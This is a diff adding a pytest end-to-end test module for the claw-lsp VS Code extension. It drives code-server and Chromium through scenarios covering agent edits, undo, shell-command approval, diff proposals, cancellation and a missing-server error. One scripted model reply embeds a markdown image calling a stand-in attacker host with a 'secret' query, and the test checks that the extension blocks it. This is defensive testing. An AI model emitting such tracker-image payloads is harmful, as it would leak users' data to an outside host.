@@ -1,0 +1,336 @@
+"""The VS Code extension, end to end inside real VS Code (code-server 4.100.3 = Code 1.100.3).
+
+One code-server session is shared by the tests of this module: it installs the freshly built .vsix,
+the extension starts the real `claw-lsp`, which talks to the scripted model; playwright-core
+drives Debian's Chromium like a user (palette, input box, notification buttons, the Claw view,
+Ctrl+Z) and records buffer texts and view text, which the tests below assert on.
+Needs `scripts/install-vscode-test-deps.sh` (apt chromium + libkrb5-dev, npm code-server and
+playwright-core); without it the tests are skipped with that reason.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import signal
+import socket
+import subprocess
+import sys
+import time
+import urllib.request
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.support.scripted_model import ScriptedModel
+
+pytestmark = pytest.mark.vscode
+
+REPO_ROOT = Path(__file__).resolve().parents[2]
+EXTENSION_DIR = REPO_ROOT / "editors" / "vscode"
+HARNESS_DIR = Path(__file__).resolve().parent
+DEPS_DIR = HARNESS_DIR / ".deps"
+CODE_SERVER = DEPS_DIR / "node_modules" / ".bin" / "code-server"
+CHROMIUM = Path("/usr/bin/chromium")
+SCREENSHOT_TARGET = REPO_ROOT / "docs" / "images" / "vscode-conversation.png"
+SERVER_EXECUTABLE = Path(sys.executable).parent / "claw-lsp"
+INSTALL_HINT = "run scripts/install-vscode-test-deps.sh first"
+
+LONG_STREAM = "Counting: " + " ".join(str(n) for n in range(1, 200)) + " END-OF-STREAM"
+SCENARIOS: dict[str, list[dict[str, Any]]] = {
+    "askEdit": [
+        {"tool_calls": [{"name": "read_file", "arguments": {"path": "demo.py"}}]},
+        {
+            "tool_calls": [
+                {
+                    "name": "edit_file",
+                    "arguments": {"path": "demo.py", "old_text": "x = 1", "new_text": "x = 2"},
+                }
+            ]
+        },
+        {"text": "Changed **x** to 2. ![tracker](https://evil.example/pixel.png?q=secret)"},
+    ],
+    "approval": [
+        {"tool_calls": [{"name": "shell", "arguments": {"command": "echo approved-run"}}]},
+        {"text": "The command ran."},
+    ],
+    "proposal": [
+        {"tool_calls": [{"name": "read_file", "arguments": {"path": "demo.py"}}]},
+        {
+            "tool_calls": [
+                {
+                    "name": "edit_file",
+                    "arguments": {"path": "demo.py", "old_text": "x = 1", "new_text": "x = 3"},
+                }
+            ]
+        },
+        {"text": "Proposed x = 3 for review."},
+    ],
+    "cancel": [{"text": LONG_STREAM, "chunks": 60, "chunk_delay": 0.25}],
+}
+
+
+def _missing_dependencies() -> list[str]:
+    missing = []
+    if not CODE_SERVER.exists():
+        missing.append(str(CODE_SERVER))
+    if not (DEPS_DIR / "node_modules" / "playwright-core").exists():
+        missing.append("playwright-core")
+    if not (EXTENSION_DIR / "node_modules" / ".bin" / "esbuild").exists():
+        missing.append(str(EXTENSION_DIR / "node_modules"))
+    if not CHROMIUM.exists():
+        missing.append(str(CHROMIUM))
+    if shutil.which("node") is None:
+        missing.append("node")
+    return missing
+
+
+def _require_dependencies() -> None:
+    missing = _missing_dependencies()
+    if missing:
+        pytest.skip(f"VS Code e2e dependencies missing ({', '.join(missing)}): {INSTALL_HINT}")
+
+
+def _free_port() -> int:
+    with socket.socket() as probe:
+        probe.bind(("127.0.0.1", 0))
+        return int(probe.getsockname()[1])
+
+
+def _run(command: list[str], cwd: Path, timeout: float) -> subprocess.CompletedProcess[str]:
+    result = subprocess.run(
+        command, cwd=cwd, capture_output=True, text=True, timeout=timeout, stdin=subprocess.DEVNULL
+    )
+    assert result.returncode == 0, (
+        f"{' '.join(command)} failed:\n{result.stdout[-3000:]}\n{result.stderr[-3000:]}"
+    )
+    return result
+
+
+def _stop_process_group(process: subprocess.Popen[bytes]) -> None:
+    """code-server leaves fileWatcher children behind when only it dies: end its whole group."""
+    try:
+        group = os.getpgid(process.pid)
+    except ProcessLookupError:
+        return
+    for sig in (signal.SIGTERM, signal.SIGKILL):
+        try:
+            os.killpg(group, sig)
+        except ProcessLookupError:
+            return
+        try:
+            process.wait(timeout=5)
+        except subprocess.TimeoutExpired:
+            continue
+        time.sleep(0.5)
+
+
+def _wait_healthy(url: str, process: subprocess.Popen[bytes], timeout: float = 60) -> None:
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        assert process.poll() is None, "code-server exited during start-up"
+        try:
+            with urllib.request.urlopen(f"{url}/healthz", timeout=2) as response:
+                if response.status == 200:
+                    return
+        except OSError:
+            time.sleep(0.3)
+    raise AssertionError("code-server did not become healthy")
+
+
+@pytest.fixture(scope="module")
+def vsix(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    _require_dependencies()
+    out = tmp_path_factory.mktemp("vsix") / "claw-lsp.vsix"
+    _run(["npm", "run", "build"], EXTENSION_DIR, timeout=120)
+    _run(
+        [str(EXTENSION_DIR / "node_modules" / ".bin" / "vsce"), "package", "--out", str(out)],
+        EXTENSION_DIR,
+        timeout=120,
+    )
+    return out
+
+
+@pytest.fixture(scope="module")
+def vscode_run(vsix: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
+    assert SERVER_EXECUTABLE.exists(), (
+        f"the server executable {SERVER_EXECUTABLE} is missing (pip install -e .)"
+    )
+    base = tmp_path_factory.mktemp("code-server")
+    workspace, user_data, extensions, state = (
+        base / name for name in ("ws", "user-data", "extensions", "state")
+    )
+    for folder in (workspace, user_data / "User", extensions, state):
+        folder.mkdir(parents=True)
+    (workspace / "demo.py").write_text("x = 1\n")
+    (user_data / "User" / "settings.json").write_text(
+        json.dumps(
+            {
+                # VS Code saves refactoring edits by default; the tests check buffer and undo.
+                "files.refactoring.autoSave": False,
+                "claw.server.path": str(SERVER_EXECUTABLE),
+                "claw.tier": "write",
+                "claw.requestTimeout": 30,
+                "workbench.startupEditor": "none",
+                "security.workspace.trust.enabled": False,
+                "telemetry.telemetryLevel": "off",
+                "extensions.autoUpdate": False,
+                "extensions.autoCheckUpdates": False,
+                "update.mode": "none",
+                "workbench.tips.enabled": False,
+                "git.enabled": False,
+            },
+            indent=2,
+        )
+    )
+    _run(
+        [
+            str(CODE_SERVER),
+            "--extensions-dir",
+            str(extensions),
+            "--user-data-dir",
+            str(user_data),
+            "--install-extension",
+            str(vsix),
+        ],
+        REPO_ROOT,
+        timeout=120,
+    )
+
+    model = ScriptedModel().start()
+    port = _free_port()
+    url = f"http://127.0.0.1:{port}"
+    env = {k: v for k, v in os.environ.items() if not k.startswith(("CLAW_", "OPENAI_"))}
+    env.update(
+        OPENAI_BASE_URL=model.base_url,
+        OPENAI_API_KEY="test-key",
+        OPENAI_MODEL="scripted",
+        CLAW_STATE_DIR=str(state),
+        XDG_CONFIG_HOME=str(base / "xdg-config"),
+        XDG_DATA_HOME=str(base / "xdg-data"),
+    )
+    log_file = (base / "code-server.log").open("wb")
+    code_server = subprocess.Popen(
+        [
+            str(CODE_SERVER), "--auth", "none", "--bind-addr", f"127.0.0.1:{port}",
+            "--extensions-dir", str(extensions),
+            "--user-data-dir", str(user_data), "--disable-telemetry", "--disable-update-check",
+            "--disable-workspace-trust", str(workspace),
+        ],
+        cwd=base, env=env, stdout=log_file, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL,
+        start_new_session=True,
+    )  # fmt: skip
+    try:
+        _wait_healthy(url, code_server)
+        config = {
+            "url": url,
+            "workspace": str(workspace),
+            "depsDir": str(DEPS_DIR),
+            "chromium": str(CHROMIUM),
+            "modelControl": f"http://127.0.0.1:{model.port}",
+            "results": str(base / "results.json"),
+            "screenshot": str(base / "conversation.png"),
+            "artifacts": str(base / "artifacts"),
+            "scenarios": SCENARIOS,
+            "userSettings": str(user_data / "User" / "settings.json"),
+        }
+        (base / "config.json").write_text(json.dumps(config))
+        driver = subprocess.run(
+            ["node", str(HARNESS_DIR / "drive.mjs"), str(base / "config.json")],
+            cwd=HARNESS_DIR, capture_output=True, text=True, timeout=300, stdin=subprocess.DEVNULL,
+        )  # fmt: skip
+        results: dict[str, Any] = json.loads(Path(config["results"]).read_text())
+        results["driverOutput"] = driver.stdout[-4000:] + driver.stderr[-4000:]
+        results["workspace"] = workspace
+        results["screenshotPath"] = Path(config["screenshot"])
+        results["artifacts"] = base
+        assert "fatal" not in results, (
+            f"driver failed before the scenarios ran: {results['fatal']}\n{results['driverOutput']}"
+        )
+        yield results
+    finally:
+        _stop_process_group(code_server)
+        log_file.close()
+        model.stop()
+
+
+def _scenario(results: dict[str, Any], name: str) -> dict[str, Any]:
+    record: dict[str, Any] = results["scenarios"].get(name, {})
+    assert record.get("ok"), (
+        f"scenario {name} failed: {record.get('error')}\nartifacts: {results['artifacts']}"
+    )
+    return record
+
+
+def _messages_text(request: dict[str, Any]) -> str:
+    return json.dumps(request.get("messages", []))
+
+
+def test_unit_tests_of_the_view_model_pass() -> None:
+    _require_dependencies()
+    result = subprocess.run(
+        ["npm", "test"], cwd=EXTENSION_DIR, capture_output=True, text=True, timeout=120
+    )
+    assert result.returncode == 0, result.stdout[-4000:] + result.stderr[-2000:]
+    assert "# fail 0" in result.stdout
+
+
+def test_status_bar_shows_the_tier_from_user_settings(vscode_run: dict[str, Any]) -> None:
+    assert "Claw: write" in vscode_run["statusBar"]
+
+
+def test_ask_agent_edits_the_buffer_and_ctrl_z_reverts_it(vscode_run: dict[str, Any]) -> None:
+    record = _scenario(vscode_run, "askEdit")
+    assert record["bufferAfterEdit"].strip() == "x = 2"
+    assert record["bufferAfterUndo"].strip() == "x = 1"
+    # The buffer was never saved behind the user's back (files.refactoring.autoSave is off).
+    assert (vscode_run["workspace"] / "demo.py").read_text() == "x = 1\n"
+    assert "Change x to 2" in _messages_text(record["requests"][0])
+    assert "Changed x to 2." in record["turnText"]
+    # The model's remote image was neutralised, not loaded.
+    assert "[image not loaded: tracker]" in record["turnText"]
+    assert "read_file" in record["turnText"] and "edit_file" in record["turnText"]
+
+
+def test_approval_prompt_is_answered_and_the_tool_runs(vscode_run: dict[str, Any]) -> None:
+    record = _scenario(vscode_run, "approval")
+    assert "echo approved-run" in record["approvalMessage"]
+    assert "Approval for shell" in record["turnText"]
+    tool_results = _messages_text(record["requests"][-1])
+    assert "approved-run" in tool_results
+    assert "The command ran." in record["turnText"]
+
+
+def test_proposal_is_reviewed_in_a_diff_and_accepted(vscode_run: dict[str, Any]) -> None:
+    record = _scenario(vscode_run, "proposal")
+    assert record["bufferWhileProposed"].strip() == "x = 1", (
+        "a proposal must not touch the buffer before it is accepted"
+    )
+    assert record["diffModified"] is not None and "x = 3" in record["diffModified"]
+    assert record["bufferAfterAccept"].strip() == "x = 3"
+    assert "accepted" in record["viewText"]
+
+
+def test_cancel_stops_a_slow_stream(vscode_run: dict[str, Any]) -> None:
+    record = _scenario(vscode_run, "cancel")
+    assert "Cancelled" in record["turnText"]
+    assert "END-OF-STREAM" not in record["turnText"]
+
+
+def test_a_missing_server_is_reported_with_a_fix(vscode_run: dict[str, Any]) -> None:
+    record = _scenario(vscode_run, "missingServer")
+    assert '"/nonexistent/claw-lsp" was not found' in record["message"]
+    assert "pipx install claw-lsp" in record["message"] and "claw.server.path" in record["message"]
+    assert "Open Settings" in record["message"]
+    assert "stopped" in record["statusBar"]
+
+
+def test_screenshot_of_the_view_is_saved(vscode_run: dict[str, Any]) -> None:
+    _scenario(vscode_run, "proposal")
+    screenshot: Path = vscode_run["screenshotPath"]
+    assert screenshot.exists() and screenshot.stat().st_size > 10_000
+    SCREENSHOT_TARGET.parent.mkdir(parents=True, exist_ok=True)
+    shutil.copyfile(screenshot, SCREENSHOT_TARGET)
